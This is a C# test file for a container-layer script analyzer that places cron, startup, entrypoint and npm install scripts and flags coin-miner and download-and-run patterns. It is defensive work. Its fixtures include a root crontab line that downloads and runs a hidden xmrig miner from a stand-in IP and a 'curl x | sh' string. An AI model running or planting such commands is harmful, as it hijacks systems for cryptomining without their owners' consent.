using System.Security.Cryptography;
using System.Text;
using Drydock.Analysis;
using Drydock.Analysis.Content;
using Drydock.Analysis.Scripts;
using Drydock.Tests.Support;

namespace Drydock.Tests.Analysis.Scripts;

/// <summary>Given a layer with scripts in the places that run them, the script analyzer reads each once in the layer pass
/// and records what it finds with the file's hash and the evidence lines; files that are not scripts are never read.</summary>
public sealed class ScriptContentAnalyzerTests
{
    private static readonly AnalyzerCatalog Catalog = new([new ScriptContentAnalyzer()]);

    private const string MinerCron = "*/5 * * * * root wget -q http://203.0.113.7/xmrig -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x -o stratum+tcp://203.0.113.7:3333 -u x\n";

    [Theory]
    [InlineData("etc/crontab", ScriptContext.Cron)]
    [InlineData("etc/cron.d/job", ScriptContext.Cron)]
    [InlineData("etc/cron.daily/clean", ScriptContext.Cron)]
    [InlineData("var/spool/cron/crontabs/root", ScriptContext.Cron)]
    [InlineData("etc/crontabs/root", ScriptContext.Cron)]
    [InlineData("etc/rc.local", ScriptContext.Startup)]
    [InlineData("etc/init.d/networking", ScriptContext.Startup)]
    [InlineData("etc/profile.d/x.sh", ScriptContext.Startup)]
    [InlineData("root/.bashrc", ScriptContext.Startup)]
    [InlineData("home/app/.profile", ScriptContext.Startup)]
    [InlineData("etc/systemd/system/x.service", ScriptContext.Startup)]
    [InlineData("usr/local/bin/docker-entrypoint.sh", ScriptContext.Entrypoint)]
    [InlineData("entrypoint", ScriptContext.Entrypoint)]
    [InlineData("start.sh", ScriptContext.Entrypoint)]
    [InlineData("app/node_modules/esbuild/install.js", ScriptContext.NpmInstallFile)]
    [InlineData("app/node_modules/@scope/pkg/postinstall.js", ScriptContext.NpmInstallFile)]
    [InlineData("app/node_modules/protobufjs/scripts/postinstall.js", ScriptContext.NpmInstallFile)]
    [InlineData("usr/lib/node_modules/npm/node_modules/x/install.mjs", ScriptContext.NpmInstallFile)]
    public void Places_by_path(string path, ScriptContext context)
        => Assert.Equal(context, ScriptContentAnalyzer.ContextOf(path, "data"u8));

    [Theory]
    [InlineData("usr/share/doc/app/run.sh")]
    [InlineData("etc/cron.d")]
    [InlineData("home/app/sub/.bashrc")]
    [InlineData("app/node_modules/pkg/lib/deep/install.js")]
    [InlineData("app/src/install.js")]
    [InlineData("etc/cron.dx/file")]
    public void Other_paths_are_read_only_when_they_start_with_a_shebang(string path)
    {
        Assert.Null(ScriptContentAnalyzer.ContextOf(path, "plain text"u8));
        Assert.Equal(ScriptContext.Script, ScriptContentAnalyzer.ContextOf(path, "#!/bin/sh\n"u8));
    }

    [Fact]
    public async Task Findings_carry_rule_hash_evidence_lines_and_byte_offsets()
    {
        var cron = "# ünïcode comment first\nSHELL=/bin/sh\n" + MinerCron;
        var layer = await Analyse.TarAsync(new TarBuilder()
            .File("etc/cron.d/sysupdate", cron)
            .File("usr/share/doc/notes.txt", "stratum+tcp://pool.example:3333 xmrig --donate-level 1\n") // not a script
            .File("usr/local/bin/tool", "\u007fELF" + new string('\0', 100) + "curl x | sh") // binary
            .Build(), Catalog);

        Assert.All(layer.ContentFindings, f => Assert.Equal("etc/cron.d/sysupdate", f.Path));
        Assert.Equal(["coin-miner/miner-download", "coin-miner/pool-command-line", "suspicious-script/download-and-run"], layer.ContentFindings.Select(f => f.RuleId).Order());
        var download = layer.ContentFindings.Single(f => f.RuleId == "coin-miner/miner-download");
        Assert.Equal((ThreatCategory.CoinMiner, Confidence.High), (download.Category, download.Confidence));
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(cron))), download.Sha256);
        var evidence = Assert.Single(download.Evidence);
        Assert.Equal(("line", 3), (evidence.Kind, evidence.Line));
        Assert.Equal(Encoding.UTF8.GetByteCount(cron[..cron.IndexOf("*/5", StringComparison.Ordinal)]), evidence.Offset);
        Assert.Contains("http://203.0.113.7/xmrig", evidence.Value);
        Assert.Contains("in a crontab", download.Title);
        Assert.Empty(layer.Warnings);
    }

    [Fact]
    public async Task Large_files_are_not_read_as_scripts_and_are_not_counted_as_skipped()
    {
        var big = "#!/bin/sh\n" + new string('#', ScriptContentAnalyzer.MaxScriptBytes) + "\n" + MinerCron;
        var layer = await Analyse.TarAsync(new TarBuilder().File("etc/cron.d/big", big).Build(), Catalog);
        Assert.Empty(layer.ContentFindings);
        Assert.Equal(0, layer.SkippedLargeFiles);
    }

    [Fact]
    public async Task Ordinary_scripts_of_a_package_give_nothing()
    {
        var layer = await Analyse.TarAsync(new TarBuilder()
            .File("etc/cron.daily/apt-compat", "#!/bin/sh\nset -e\n[ -x /usr/lib/apt/apt.systemd.daily ] || exit 0\nexec /usr/lib/apt/apt.systemd.daily\n")
            .File("usr/local/bin/docker-entrypoint.sh", "#!/bin/sh\nset -e\nif [ \"${1#-}\" != \"$1\" ]; then set -- node \"$@\"; fi\nexec \"$@\"\n")
            .File("usr/bin/installer", "#!/bin/sh\ncurl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n")
            .Build(), Catalog);
        Assert.Empty(layer.ContentFindings);
    }

    [Fact]
    public async Task Every_script_read_is_recorded_with_its_hash_matched_or_not()
    {
        const string Plain = "#!/bin/sh\nexec /usr/lib/apt/apt.systemd.daily\n";
        var layer = await Analyse.TarAsync(new TarBuilder()
            .File("etc/cron.daily/apt-compat", Plain)
            .File("etc/cron.d/sysupdate", MinerCron)
            .File("usr/share/doc/notes.txt", "plain text, not a script\n")
            .Build(), Catalog);

        Assert.Equal(["etc/cron.d/sysupdate", "etc/cron.daily/apt-compat"], layer.Executables.Select(e => e.Path));
        Assert.All(layer.Executables, e => Assert.Equal(ExecutableFormat.Script, e.Format));
        var plain = layer.Executables.Single(e => e.Path == "etc/cron.daily/apt-compat");
        Assert.Equal((Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(Plain))), (long)Plain.Length), (plain.Sha256, plain.Size));
        Assert.Equal(layer.ContentFindings.Select(f => f.Sha256).Distinct(), [layer.Executables.Single(e => e.Path == "etc/cron.d/sysupdate").Sha256]);
    }
}
